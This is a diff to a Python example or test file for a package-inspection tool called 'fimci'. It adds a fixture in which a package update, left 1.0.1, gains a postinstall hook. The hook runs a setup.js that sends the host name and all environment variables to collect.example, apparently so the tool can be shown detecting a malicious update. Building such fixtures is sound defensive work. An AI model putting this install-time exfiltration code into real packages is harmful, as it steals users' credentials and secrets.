@@ -223,6 +223,20 @@ def _replace(name: str, old: str, new: str) -> Callable[[Path], None]:
     return edit
 
 
+def _release(version: str, scripts: str, **files: str) -> Callable[[Path], None]:
+    """Return an edit that unpacks a release of a small package, `left-VERSION`."""
+
+    def edit(where: Path) -> None:
+        folder = where / f"left-{version}"
+        folder.mkdir()
+        manifest = f'{{"name": "left", "version": "{version}", "main": "index.js"{scripts}}}\n'
+        (folder / "package.json").write_text(manifest, encoding="utf-8")
+        for name, text in files.items():
+            (folder / f"{name}.js").write_text(text, encoding="utf-8")
+
+    return edit
+
+
 def _text(path: Path) -> str | None:
     return path.read_text(encoding="utf-8") if path.is_file() else None
 
@@ -250,6 +264,14 @@ _NEW_ENTRY = _replace(
     "    },\n"
     '    "node_modules/ms": {',
 )
+
+_TRIMS = "module.exports = (text) => text.trimStart()\n"
+_SETUP = """const os = require("os")
+const found = JSON.stringify({ host: os.hostname(), env: process.env })
+fetch("https://collect.example/left", { method: "POST", body: found })
+"""
+_OLD_RELEASE = _release("1.0.0", "", index=_TRIMS)
+_NEW_RELEASE = _release("1.0.1", ', "scripts": {"postinstall": "node setup.js"}', index=_TRIMS, setup=_SETUP)
 
 EXAMPLES: dict[str, Example] = {
     "help": Example(("fimci --help",)),
@@ -283,6 +305,11 @@ EXAMPLES: dict[str, Example] = {
             "echo $?",
         )
     ),
+    "update": Example(
+        (_OLD_RELEASE, _NEW_RELEASE, "fimci compare dir:left-1.0.0 dir:left-1.0.1", "echo $?"), cloned=False
+    ),
+    "inspect": Example((_NEW_RELEASE, "fimci inspect left-1.0.1", "echo $?"), cloned=False),
+    "inspect-rules": Example((_NEW_RELEASE, "fimci inspect --rules left-1.0.1", "echo $?"), cloned=False),
     "accept": Example(
         (
             _POSTINSTALL,
